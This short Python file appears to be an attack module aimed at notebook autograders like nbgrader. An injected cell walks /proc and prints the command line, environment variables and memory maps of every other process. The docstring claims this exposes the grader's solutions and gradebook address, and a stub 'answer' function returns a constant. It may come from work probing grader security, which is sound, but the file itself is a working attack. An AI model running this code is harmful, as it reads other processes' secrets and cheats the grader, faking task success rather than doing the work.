"""Read the environment, the command line and the memory of every other process.

Known to work against stock nbgrader: the grader's process holds the solutions and the gradebook's address.
"""
CELLS_BEFORE = [
    """
import os
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) != os.getpid():
        for name in ("cmdline", "environ", "maps"):
            try:
                print(pid, name, open(f"/proc/{pid}/{name}", "rb").read()[:2000], "planted_by_attack")
            except OSError:
                continue
"""
]

# --- the answer ---
def answer(*values, **options):
    return 1
